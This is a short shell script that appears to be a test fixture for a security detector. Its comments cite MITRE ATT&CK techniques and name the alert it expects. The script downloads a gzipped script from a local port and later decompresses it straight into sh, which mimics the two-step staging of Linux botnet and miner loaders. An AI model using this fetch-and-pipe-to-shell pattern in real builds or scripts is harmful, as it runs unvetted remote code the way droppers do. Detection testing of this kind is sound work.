#!/bin/sh
# technique: T1105 Ingress Tool Transfer; T1140 Deobfuscate/Decode Files or Information; T1059.004 Unix Shell
# reproduces: compressed second stages fetched at build time and unpacked straight into a shell (`gzip -dc update.gz | sh`), the way Linux botnet and miner loaders stage their scripts
# expect: decoded-script-to-shell ^(da)?sh$
# exec-borne: yes
#
# Two steps, as a careful dropper does it: download to a file first
# (nothing piped from the network), decompress into sh later.
set -u

cache="${BW_ATTACK_TMP:?}/cache/updates"
mkdir -p "$cache"
trap 'rm -rf "${BW_ATTACK_TMP:?}/cache"' EXIT

curl -fsS --connect-timeout 5 -o "$cache/update.gz" \
	"http://127.0.0.1:${BW_ATTACK_PORT:?}/install.sh.gz" || exit 1

# ... later in the job
if [ -s "$cache/update.gz" ]; then
	gzip -dc "$cache/update.gz" | sh
fi
